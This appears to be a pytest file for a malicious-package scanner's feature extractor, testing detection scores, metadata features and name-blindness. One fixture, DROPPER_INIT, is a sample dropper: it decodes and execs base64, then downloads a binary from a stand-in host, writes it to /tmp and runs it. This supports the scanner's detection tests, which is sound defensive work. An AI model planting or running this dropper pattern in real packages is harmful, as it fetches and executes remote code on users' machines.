"""Feature extraction: documented, behaviour-based, blind to project names, cheap to cache."""

from __future__ import annotations

import json
from pathlib import Path

from douane.analysis.engine import analyse
from douane.archive import open_artifact
from douane.domain import Artifact
from douane.scoring.features import (
    EMAIL_KIND,
    Summary,
    email_kind,
    feature_table,
    features,
    summarise,
    summary_fingerprint,
    vector,
)
from tests.conftest import BENIGN_SETUP, INERT_STEALER_SETUP, make_sdist

DROPPER_INIT = b"""import base64, subprocess, urllib.request
payload = base64.b64decode("cHJpbnQoJ2luZXJ0Jyk=")
exec(payload)
data = urllib.request.urlopen("https://files.example.invalid/tool.bin").read()
open("/tmp/tool.bin", "wb").write(data)
subprocess.Popen(["/tmp/tool.bin"])
"""


def _summary(path: Path, name: str | None = None) -> Summary:
    artifact = Artifact(path=path, filename=path.name, name=name)
    result = analyse(artifact, open_artifact(path))
    return summarise(result.findings, result.context)


def _pkg_info(name: str, version: str = "1.0", email: str = "dev@corp.example.invalid") -> bytes:
    return (
        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: A tidy helper\n"
        f"Author-email: {email}\n\nA longer description of what the helper does.\n"
    ).encode()


def test_every_feature_is_documented(
    tmp_path: Path, stealer_sdist: Path, benign_sdist: Path
) -> None:
    table = feature_table()
    dropper = make_sdist(tmp_path / "d-1.0.tar.gz", {"setup.py": BENIGN_SETUP,
                                                     "d/__init__.py": DROPPER_INIT})  # fmt: skip
    for path in (stealer_sdist, benign_sdist, dropper):
        produced = features(_summary(path))
        undocumented = set(produced) - set(table)
        assert not undocumented, undocumented
    assert all(desc.strip() for desc in table.values())


def test_stealer_in_setup_py_is_a_secret_send_combination_at_install_time(
    stealer_sdist: Path, benign_sdist: Path
) -> None:
    bad = features(_summary(stealer_sdist))
    good = features(_summary(benign_sdist))
    assert bad["combo.secret_send"] == 5  # 5 = install time
    assert bad["findings.install"] >= 2
    assert bad["severity.max_install"] > good.get("severity.max_install", 0)
    assert bad["early_import.network"] >= 1
    assert good.get("combo.secret_send", 0) == 0
    assert good["setup.present"] == 1 and good["setup.calls_setup"] == 1


def test_decode_exec_and_download_execute_in_one_import_time_file(tmp_path: Path) -> None:
    path = make_sdist(tmp_path / "d-1.0.tar.gz", {"setup.py": BENIGN_SETUP,
                                                  "d/__init__.py": DROPPER_INIT})  # fmt: skip
    f = features(_summary(path))
    assert f["combo.decode_exec"] == 4  # 4 = import time
    assert f["combo.download_execute"] == 4
    assert f["entry.files"] == 1
    assert f["early_import.encoding"] >= 1 and f["early_import.process"] >= 1


def test_the_project_name_is_not_a_feature(tmp_path: Path) -> None:
    """Regression: a feature that encodes the name learns campaigns, not behaviour."""
    vecs = []
    for name in ("tidy-helper", "quiet-gizmo"):  # same length: sizes are features
        path = make_sdist(
            tmp_path / f"{name}-1.0.tar.gz",
            {"setup.py": INERT_STEALER_SETUP, "PKG-INFO": _pkg_info(name)},
            root=f"{name}-1.0",
        )
        vecs.append(vector(features(_summary(path, name)), feature_table()))
    assert vecs[0] == vecs[1]


def test_metadata_measures(tmp_path: Path) -> None:
    path = make_sdist(
        tmp_path / "x-999.0.0.tar.gz",
        {"setup.py": BENIGN_SETUP, "PKG-INFO": _pkg_info("x", "999.0.0", "a@mailinator.com")},
    )
    f = features(_summary(path))
    assert f["version.major"] == 999
    assert f["meta.email_kind"] == EMAIL_KIND["disposable"]
    assert f["metadata.present"] == 1
    assert f["meta.description_len"] > 10


def test_email_kinds() -> None:
    assert email_kind("") == EMAIL_KIND["none"]
    assert email_kind("Jo <jo@gmail.com>") == EMAIL_KIND["free"]
    assert email_kind("jo@throwaway.invalid") == EMAIL_KIND["disposable"]
    assert email_kind("jo@corp.example.org") == EMAIL_KIND["other"]
    assert email_kind("not an address") == EMAIL_KIND["malformed"]


def test_summary_round_trips_through_json(stealer_sdist: Path) -> None:
    s = _summary(stealer_sdist)
    again = Summary.from_json(json.loads(json.dumps(s.to_json())))
    assert features(again) == features(s)
    assert s.findings and all(len(row) == 5 for row in s.findings)


def test_absent_features_read_as_zero() -> None:
    assert vector({"a": 2.0}, ["a", "rule.DOU9999"]) == [2.0, 0.0]


def test_fingerprint_is_stable() -> None:
    assert summary_fingerprint() == summary_fingerprint()
    assert len(summary_fingerprint()) == 16
